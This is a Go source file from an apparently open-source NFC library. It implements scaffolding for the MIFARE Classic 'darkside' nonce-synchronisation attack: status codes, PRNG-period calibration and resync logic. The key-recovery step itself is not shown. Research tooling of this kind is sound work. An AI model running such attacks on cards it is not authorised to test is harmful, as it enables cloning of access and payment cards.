// Copyright 2026 The Zaparoo Project Contributors.
// SPDX-License-Identifier: Apache-2.0
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//     http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

// Package attack implements the MIFARE Classic nonce synchronisation
// attack (Courtois' "darkside") and a check for cards that answer a
// wrong-parity {nr}{ar} with an encrypted NACK.
//
// Both procedures schedule each authentication a whole number of PRNG
// periods after the previous one, so a card whose nonce generator is
// clocked from power-up keeps handing out the same nonce. The period is
// measured on the card and corrected whenever the nonce drifts.
package attack

import (
	"errors"
	"fmt"

	iso14a "github.com/ZaparooProject/go-iso14a"
	"github.com/ZaparooProject/go-iso14a/internal/crypto1"
)

// ErrIterationLimit is returned when an attack runs out of the iterations
// allowed by WithMaxIterations.
var ErrIterationLimit = errors.New("attack: iteration limit reached")

const (
	// nominalCycles is the PRNG period the calibration starts from, in
	// ticks. The generator repeats every 2^16 clocks.
	nominalCycles = 1 << 16
	// maxUnexpectedRandom is how many nonces off the PRNG cycle are
	// tolerated before the generator is declared unpredictable.
	maxUnexpectedRandom = 4
	// maxSyncTries bounds calibration rounds without a nonce repeat.
	maxSyncTries = 32
	// resyncFold is how many identical catch-ups in a row are folded
	// into the period.
	resyncFold = 3
	// nackLag is how far a NACK delays the card's PRNG, in ticks.
	nackLag = 8
	// ctxCheckInterval is the number of authentications between context
	// checks.
	ctxCheckInterval = 1000
)

// Status is the outcome of Darkside.
type Status int

const (
	// StatusOK means all eight keystream slots were filled.
	StatusOK Status = 1
	// StatusNoNACK means no parity got a NACK: the card does not leak.
	StatusNoNACK Status = 2
	// StatusUnpredictable means the nonces do not follow the PRNG.
	StatusUnpredictable Status = 3
	// StatusSyncFrequency means calibration never locked: the PRNG runs at
	// an unexpected rate or resets.
	StatusSyncFrequency Status = 4
	// StatusAborted means the context was cancelled.
	StatusAborted Status = 5
	// StatusAuthenticated means the dummy {nr}{ar} was accepted.
	StatusAuthenticated Status = 6
)

func (s Status) String() string {
	switch s {
	case StatusOK:
		return "keystream recovered"
	case StatusNoNACK:
		return "card does not NACK"
	case StatusUnpredictable:
		return "unpredictable nonces"
	case StatusSyncFrequency:
		return "PRNG frequency mismatch"
	case StatusAborted:
		return "aborted"
	case StatusAuthenticated:
		return "authenticated with dummy key"
	default:
		return fmt.Sprintf("Status(%d)", int(s))
	}
}

// Option configures an Attacker.
type Option func(*Attacker)

// WithMaxIterations caps the number of authentications one call sends.
// 0, the default, runs until a result or cancellation.
func WithMaxIterations(n int) Option {
	return func(a *Attacker) {
		a.maxIterations = n
	}
}

// Attacker runs attacks through a Reader. The calibrated PRNG period, the
// nonce under attack and the reader nonce survive between Darkside calls
// so a failed run can continue with another reader nonce. An Attacker is
// not safe for concurrent use.
type Attacker struct {
	reader        *iso14a.Reader
	maxIterations int

	syncCycles int32
	ntAttacked uint32
	nrAr3      byte
	parLow     byte
}

// New returns an attacker driving r.
func New(r *iso14a.Reader, opts ...Option) *Attacker {
	a := &Attacker{reader: r, syncCycles: nominalCycles}
	for _, opt := range opts {
		opt(a)
	}
	return a
}

// SyncCycles returns the calibrated PRNG period in ticks.
func (a *Attacker) SyncCycles() int32 { return a.syncCycles }

func (a *Attacker) limitReached(i int) bool {
	return a.maxIterations > 0 && i >= a.maxIterations
}

// prngSync schedules authentications on the card's PRNG period.
type prngSync struct {
	time      uint32
	catchUp   int32
	lastCatch int32
	resyncs   int
	elapsed   int32
}

// next moves the send time one period ahead, plus any pending catch-up,
// and on by further periods until it lies at least guard ticks after
// now.
func (s *prngSync) next(cycles int32, now, guard uint32) uint32 {
	s.elapsed = 1
	s.time = s.time&^7 + uint32(cycles+s.catchUp)
	s.catchUp = 0
	for int32(s.time-(now+guard)) < 0 {
		s.elapsed++
		s.time = s.time&^7 + uint32(cycles)
	}
	return s.time
}

// resync handles a nonce that is not the one under attack. It schedules a
// one-time catch-up and, when the same catch-up was needed resyncFold
// times in a row, folds it into cycles instead.
func (s *prngSync) resync(cycles *int32, attacked, nt uint32) {
	d := crypto1.NonceDistance(attacked, nt)
	if d == crypto1.DistanceInvalid {
		s.catchUp = 0
		return
	}
	c := -d / s.elapsed
	s.catchUp = c
	if c == s.lastCatch {
		s.resyncs++
	} else {
		s.lastCatch = c
		s.resyncs = 0
	}
	if s.resyncs < resyncFold {
		iso14a.Debugf("attack: lost sync, distance %d, catching up once (%d in a row)", c, s.resyncs)
		return
	}
	*cycles += c
	iso14a.Debugf("attack: lost sync %d times in a row, sync cycles now %d", s.resyncs+1, *cycles)
	s.lastCatch, s.catchUp, s.resyncs = 0, 0, 0
}
